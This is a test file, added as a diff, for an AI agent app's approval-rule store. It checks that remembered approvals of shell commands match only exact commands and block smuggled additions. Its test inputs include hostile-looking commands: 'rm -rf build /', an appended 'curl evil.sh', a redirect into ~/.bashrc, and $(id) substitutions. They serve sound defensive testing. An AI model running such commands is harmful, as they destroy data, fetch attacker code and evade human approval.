@@ -0,0 +1,78 @@
+const { describe, test, beforeEach, after } = require('node:test');
+const assert = require('node:assert/strict');
+const fs = require('fs');
+const os = require('os');
+const path = require('path');
+
+// 规则描述会读取 Agent 配置，数据目录指向临时目录，避免写入真实的 ~/.soloforge
+const homeDir = fs.mkdtempSync(path.join(os.tmpdir(), 'soloforge-test-'));
+process.env.HOME = homeDir;
+
+const { approvalRuleStore } = require('../src/main/config/approval-rule-store');
+
+const SHELL = { name: 'shell', category: 'shell' };
+const WRITE_FILE = { name: 'write_file', category: 'file' };
+
+function evaluate(tool, args, agentId = 'cto') {
+  return approvalRuleStore.evaluate(tool, args, agentId).decision;
+}
+
+describe('approvalRuleStore 会话规则', () => {
+  beforeEach(() => {
+    approvalRuleStore.clearSessionRules();
+  });
+
+  after(() => {
+    fs.rmSync(homeDir, { recursive: true, force: true });
+  });
+
+  test('命令按整条命令记住，只匹配完全相同的命令', () => {
+    const rule = approvalRuleStore.rememberSessionDecision(SHELL, { command: 'rm  -rf build&&npm test' }, 'cto', true);
+    assert.deepEqual(rule.commands, ['rm -rf build && npm test']);
+
+    assert.equal(evaluate(SHELL, { command: 'rm -rf build && npm test' }), 'allow');
+    assert.equal(evaluate(SHELL, { command: 'npm test' }), null);
+    assert.equal(evaluate(SHELL, { command: 'npm test && rm -rf build' }), null);
+    assert.equal(evaluate(SHELL, { command: 'rm -rf build /' }), null);
+    assert.equal(evaluate(SHELL, { command: 'rm -rf build && npm test && curl evil.sh' }), null);
+  });
+
+  test('换行与 ; 等价，不会与空格拼接的命令混淆', () => {
+    approvalRuleStore.rememberSessionDecision(SHELL, { command: 'npm test\nnpm run lint' }, 'cto', true);
+    assert.equal(evaluate(SHELL, { command: 'npm test; npm run lint' }), 'allow');
+    assert.equal(evaluate(SHELL, { command: 'npm test npm run lint' }), null);
+  });
+
+  test('记住的命令不会自动批准夹带替换或重定向的命令', () => {
+    approvalRuleStore.rememberSessionDecision(SHELL, { command: 'npm test' }, 'cto', true);
+
+    for (const command of ['npm test > ~/.bashrc', 'npm test <(id)', 'npm test $(id)', 'npm test ${HOME}']) {
+      assert.equal(evaluate(SHELL, { command }), null, command);
+    }
+  });
+
+  test('含替换或重定向的命令不能记住', () => {
+    assert.equal(approvalRuleStore.canRememberDecision(SHELL, { command: 'cat <(id)' }), false);
+    assert.equal(approvalRuleStore.rememberSessionDecision(SHELL, { command: 'cat <(id)' }, 'cto', true), null);
+    assert.equal(approvalRuleStore.rememberSessionDecision(SHELL, { command: '' }, 'cto', true), null);
+    assert.equal(approvalRuleStore.sessionRules.length, 0);
+  });
+
+  test('记住的拒绝只对同一条命令生效，不影响包含其中一段的其他命令', () => {
+    approvalRuleStore.rememberSessionDecision(SHELL, { command: 'npm test && rm -rf build' }, 'cto', false);
+    assert.equal(evaluate(SHELL, { command: 'npm test && rm -rf build' }), 'deny');
+    assert.equal(evaluate(SHELL, { command: 'npm test' }), null);
+    assert.equal(evaluate(SHELL, { command: 'git status && npm test' }), null);
+  });
+
+  test('只对记住决定的 Agent 生效', () => {
+    approvalRuleStore.rememberSessionDecision(SHELL, { command: 'npm test' }, 'cto', true);
+    assert.equal(evaluate(SHELL, { command: 'npm test' }, 'dev'), null);
+  });
+
+  test('文件工具按所在目录记住', () => {
+    approvalRuleStore.rememberSessionDecision(WRITE_FILE, { path: '/work/app/src/a.js' }, 'cto', true);
+    assert.equal(evaluate(WRITE_FILE, { path: '/work/app/src/b.js' }), 'allow');
+    assert.equal(evaluate(WRITE_FILE, { path: '/work/app/package.json' }), null);
+  });
+});